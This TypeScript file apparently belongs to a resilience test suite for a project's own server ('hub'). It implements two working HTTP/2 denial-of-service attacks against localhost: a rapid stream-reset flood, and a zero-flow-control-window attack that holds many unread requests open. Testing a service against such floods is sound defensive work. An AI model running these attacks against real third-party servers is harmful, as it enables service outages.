import { once } from 'node:events'
import { connect as connectHttp2 } from 'node:http2'
import { connect, type TLSSocket } from 'node:tls'
import { preface, resetRequests } from '../../support/http2-frames.ts'
import type { Attack, Target } from './attack.ts'
import { keepDoing, openUnread } from './sockets.ts'

/** For a hub with TLS: what one connection can do with its many streams. */
export const http2Attacks: readonly Attack[] = [
  {
    name: 'HTTP/2 resets',
    says: '10 packets a second, each with 60 streams that are asked for and reset',
    run: (target, stop) =>
      keepDoing(target, 1, stop, async () => {
        const socket = await greeted(target)
        for (let sent = 0; !socket.destroyed && !stop.aborted; sent += 60) {
          socket.write(resetRequests('/events/orders/1', 60, sent))
          await new Promise((resolve) => setTimeout(resolve, 100))
        }
        socket.destroy()
      }),
  },
  {
    name: 'HTTP/2 window 0',
    says: '10 connections with 200 requests each, for pages, documents, polls and streams, of which nothing is taken',
    run: (target, stop) => keepDoing(target, 10, stop, () => takeNothing(target, stop)),
  },
]

async function greeted(target: Target): Promise<TLSSocket> {
  const socket = secured(target)
  socket.once('secureConnect', () => socket.write(preface))
  await Promise.race([once(socket.resume(), 'data'), once(socket, 'close')])
  return socket
}

function secured(target: Target): TLSSocket {
  const socket = connect({ socket: openUnread(target, ''), rejectUnauthorized: false, ALPNProtocols: ['h2'] })
  return socket.on('error', () => socket.destroy())
}

async function takeNothing(target: Target, stop: AbortSignal): Promise<void> {
  const session = connectHttp2(`https://127.0.0.1:${target.port}`, {
    createConnection: () => secured(target),
    settings: { initialWindowSize: 0 },
  })
  session.on('error', () => session.destroy())
  const { heavy } = target
  const paths = ['/', '/openapi.json', '/healthz', `/poll/${heavy}?lastEventId=earliest`, `/events/${heavy}`]
  await Promise.race([once(session, 'connect'), once(session, 'close')])
  for (let n = 0; n < 200 && !session.destroyed; n += 1) {
    session.request({ ':path': paths[n % paths.length] }).on('error', () => undefined)
  }
  // Until the hub has given up all of it, or the attack is over.
  const over = new Promise((resolve) => stop.addEventListener('abort', resolve, { once: true }))
  if (!session.destroyed) await Promise.race([over, once(session, 'close')])
  session.destroy()
}
